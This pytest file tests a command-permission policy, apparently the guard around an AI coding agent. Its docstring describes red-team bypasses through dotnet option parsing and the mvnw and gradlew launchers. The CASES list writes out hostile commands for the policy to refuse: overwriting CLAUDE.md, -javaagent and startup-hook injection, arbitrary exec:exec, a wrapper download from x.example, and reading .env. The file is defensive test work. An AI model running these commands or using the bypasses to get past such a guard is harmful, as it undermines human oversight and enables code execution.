"""Forty-ninth red-team pass (2026-12-07): issue 10's classes 3 to 7 through programs and
mechanisms the earlier passes did not name, as a contributor who controls the commands and the
workspace's files.

Found on the tree before this pass (docs/policy.md, "Forty-ninth pass"):
- class 4: the dotnet CLI reads options as System.CommandLine does (`-o:.github` is `--output
  .github`), and hands every dashed word it does not know to MSBuild: `-flp:logfile=CLAUDE.md`,
  `-l:x,/tmp/x.dll`, `-restoreProperty:X=V` were read as POSIX clusters of `-f`, `-l`, `-r`
  with the rest as their values, and allowed; `dotnet test -- RunConfiguration.X=V` run
  settings (test adapters loaded from a folder) and logger parameters naming files too;
- class 5: a project's build-tool launchers (`./mvnw`, `./gradlew`, `sh mvnw`) were workspace
  programs whose words nobody read: `./mvnw exec:exec -Dexec.executable=CMD` ran CMD where
  `mvn` with the same words is refused.
"""

from __future__ import annotations

from pathlib import Path

import pytest

from enforcement_agent.models import Verdict
from enforcement_agent.policy import Policy
from tests.policy.scratch_repo import scratch_repo, workflow
from tests.policy.verdicts import exec_verdict

A, D = Verdict.ALLOW, Verdict.DENY


@pytest.fixture(scope="module")
def policy(default_policy: Policy) -> Policy:
    return default_policy  # (the session's: loaded once for the whole suite)


_PACKAGE = '{"name": "x", "scripts": {"test": "node x.js", "jt": "jest", "m": "mocha", "bt": "bun test"}}\n'


@pytest.fixture(scope="module")
def ws(tmp_path_factory: pytest.TempPathFactory) -> Path:
    ci = workflow("make test", "bash ci/run.sh", "./gradlew build", "./mvnw -B verify")
    return scratch_repo(
        tmp_path_factory.mktemp("rt49") / "ws",
        {
            "README.md": "x\n",
            "src/app.py": "print(1)\n",
            "CLAUDE.md": "good\n",
            ".github/workflows/ci.yml": ci,
            "Makefile": "test:\n\ttrue\n",
            "ci/run.sh": "true\n",
            "app.csproj": "<Project Sdk='Microsoft.NET.Sdk'/>\n",
            "gradlew": '#!/bin/sh\nexec java -jar gradle/wrapper/gradle-wrapper.jar "$@"\n',
            "mvnw": '#!/bin/sh\nexec java -jar .mvn/wrapper/maven-wrapper.jar "$@"\n',
            "build.gradle": "\n",
            "pom.xml": "<project/>\n",
            "sub/.keep": "",
            "x.js": "1\n",
            "package.json": _PACKAGE,
            "deno.json": '{"tasks": {"test": "deno test"}}\n',
        },
    )


# (command, refused?) — refused means not allowed (deny or ask)
CASES: list[tuple[str, bool]] = [
    # ---- class 4: the dotnet CLI's own parser, and the words it hands to MSBuild ----------
    ("dotnet build -o:.github", True),
    ("dotnet build --output:.github", True),
    ("dotnet build -o=.github", True),
    ("dotnet build -flp:logfile=CLAUDE.md", True),
    ("dotnet build -fl -flp:logfile=CLAUDE.md", True),
    ("dotnet build -fileLogger -fileLoggerParameters:LogFile=CLAUDE.md", True),
    ("dotnet build -flp1:logfile=CLAUDE.md", True),
    ("dotnet build -fl1", True),
    ("dotnet pack -flp:logfile=CLAUDE.md", True),
    ("dotnet clean -flp9:logfile=CLAUDE.md", True),
    ("dotnet watch -flp:logfile=CLAUDE.md", True),
    ("dotnet run -flp:logfile=CLAUDE.md", True),
    ("dotnet test -flp:logfile=CLAUDE.md", True),
    ("dotnet build -l:x,/tmp/x.dll", True),
    ("dotnet build -logger:x,/tmp/x.dll", True),
    ("dotnet test -logger:x,/tmp/x.dll", True),
    ("dotnet build -restoreProperty:CustomBeforeMicrosoftCommonTargets=/tmp/x.targets", True),
    ("dotnet restore -rp:CustomBeforeMicrosoftCommonTargets=/tmp/x.targets", True),
    ("dotnet build -rsp:x", True),
    ("dotnet build -check", True),
    ("dotnet build -lowPriority", True),
    ("dotnet build -clp:x", True),
    ("dotnet build -consoleLoggerParameters:x", True),
    ("dotnet build -cRelease", True),
    ("dotnet build -- -p:X=1", True),
    ("dotnet test -- RunConfiguration.TestAdaptersPaths=/tmp", True),
    ("dotnet test -- 'RunConfiguration.ResultsDirectory=.github'", True),
    ("dotnet test -l 'trx;LogFileName=../CLAUDE.md'", True),
    ("dotnet test --logger 'html;LogFileName=../../CLAUDE.md'", True),
    ("dotnet test --logger:'junit;LogFilePath=CLAUDE.md'", True),
    ("dotnet test -l:x,/tmp/x.dll", True),
    ("timeout 60 dotnet build -flp:logfile=CLAUDE.md", True),
    ("bash -c 'dotnet build -o:.github'", True),
    # controls
    ("dotnet build", False),
    ("dotnet build -c Release", False),
    ("dotnet build -c:Release", False),
    ("dotnet build --configuration=Release -f net8.0", False),
    ("dotnet build -o out", False),
    ("dotnet build -o:out", False),
    ("dotnet build -v:q", False),
    ("dotnet build --", False),
    ("dotnet test", False),
    ("dotnet test -l trx", False),
    ("dotnet test --logger:trx", False),
    ("dotnet test --logger 'console;verbosity=detailed'", False),
    ("dotnet test --filter Category=Unit --no-build", False),
    ("dotnet run -- --port 1", False),
    ("dotnet run --project app.csproj", False),
    ("dotnet format --verify-no-changes", False),
    ("dotnet --version", False),
    ("dotnet add package Foo --version 1.0", False),
    # ---- class 5: a project's build-tool launchers hand their words to the tool -----------
    ("./mvnw exec:exec -Dexec.executable=id", True),
    ("./mvnw -Dexec.executable=id exec:exec", True),
    ("sh mvnw exec:exec -Dexec.executable=id", True),
    ("bash ./mvnw -DargLine=-javaagent:/tmp/x.jar test", True),
    ("./mvnw -Dmaven.ext.class.path=x.jar test", True),
    ("./mvnw -l CLAUDE.md test", True),
    ("./mvnw --log-file=CLAUDE.md test", True),
    ("cd sub && ../mvnw exec:exec -Dexec.executable=id", True),
    ("timeout 600 ./mvnw exec:exec -Dexec.executable=id", True),
    ("./gradlew --project-cache-dir .github test", True),
    ("./gradlew wrapper --gradle-distribution-url=http://x.example/g.zip", True),
    ("./gradlew wrapper", True),
    ("./gradlew wrap", True),
    ("sh gradlew wrapper", True),
    ("./gradlew init", True),
    ("./gradlew -Dorg.gradle.jvmargs=-javaagent:x.jar test", True),
    ("./gradlew --write-verification-metadata sha256 help", True),
    ("cd sub && ../gradlew --project-cache-dir ../.github test", True),
    # controls
    ("./gradlew build", False),
    ("./gradlew test --tests X", False),
    ("./gradlew -q clean build -x test", False),
    ("./gradlew --version", False),
    ("sh gradlew build", False),
    ("./mvnw test", False),
    ("./mvnw -q -DskipTests package", False),
    ("./mvnw -B verify", False),
    ("bash mvnw test", False),
    ("./ci/run.sh", False),
    # ---- classes 4 and 5: `--opt=VALUE` words handed to a package script ------------------
    ("npm run m -- --require=/tmp/x.js", True),
    ("npm run m -- -r=/tmp/x.js", True),
    ("npm run m -- --require=../../x.js", True),
    ("npm run jt -- --setupFiles=/tmp/x.js", True),
    ("npm run jt -- --config=/tmp/x.js", True),
    ("npm run jt -- --rootDir=/tmp", True),
    ('npm run jt -- --config \'{"setupFiles": ["/tmp/x.js"]}\'', True),
    ('yarn jt --config=\'{"setupFiles": ["/tmp/x.js"]}\'', True),
    ("pnpm run m --require=/tmp/x.js", True),
    ("npm run bt -- --preload=/tmp/x.ts", True),
    ("deno task test --import-map=/tmp/x.json", True),
    ("deno task test --preload=/tmp/x.ts", True),
    ("deno task test --config=/tmp/x.json", True),
    # controls
    ("npm test -- --watch=false", False),
    ("npm run jt -- --testNamePattern=foo", False),
    ("npm run jt -- --config=jest.config.js", False),
    ("npm run jt -- --rootDir=src", False),
    ("yarn jt --maxWorkers=2", False),
    ("bun run bt --timeout=5000", False),
    ("deno task test", False),
    # ---- held (classes 3, 6, 7): kept as controls of what the pass tried ------------------
    ("trap 'echo x > CLAUDE.md' DEBUG", True),
    ("echo ${x/a/$(cat .env)}", True),
    ("x='a[$(id)]'; echo $(( x ))", True),
    ("getopts a 'x[$(echo>CLAUDE.md)]'", True),
    ("JAVA_TOOL_OPTIONS=-javaagent:/tmp/x.jar mvn test", True),
    ("DOTNET_STARTUP_HOOKS=/tmp/x.dll dotnet test", True),
    ("MSBuildExtensionsPath=/tmp dotnet build", True),
    ("GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=core.pager GIT_CONFIG_VALUE_0=id git log", True),
    ("git -c remote.origin.push=+refs/heads/*:refs/heads/* push", True),
    ("git rebase --exe 'echo > CLAUDE.md' HEAD~1", True),
    ("git submodule --quiet foreach 'echo x > CLAUDE.md'", True),
    ("rustup run stable bash -c 'echo > CLAUDE.md'", True),
    ("ccache --set-config compiler_check=id", True),
    ("python -X presite=os src/app.py", True),
    ("python -X pycache_prefix=.github src/app.py", True),
]


@pytest.mark.parametrize(("command", "refused"), CASES)
def test_verdicts(policy: Policy, ws: Path, command: str, refused: bool) -> None:
    verdict, rule = exec_verdict(policy, ws, command)
    assert (verdict is not A) is refused, (command, verdict, rule)


@pytest.mark.parametrize(
    "command", ["./gradlew build", "./mvnw test", "dotnet build -c:Release", "dotnet test"]
)
def test_viewer_runs_no_build(policy: Policy, ws: Path, command: str) -> None:
    assert exec_verdict(policy, ws, command, role="viewer")[0] is not A
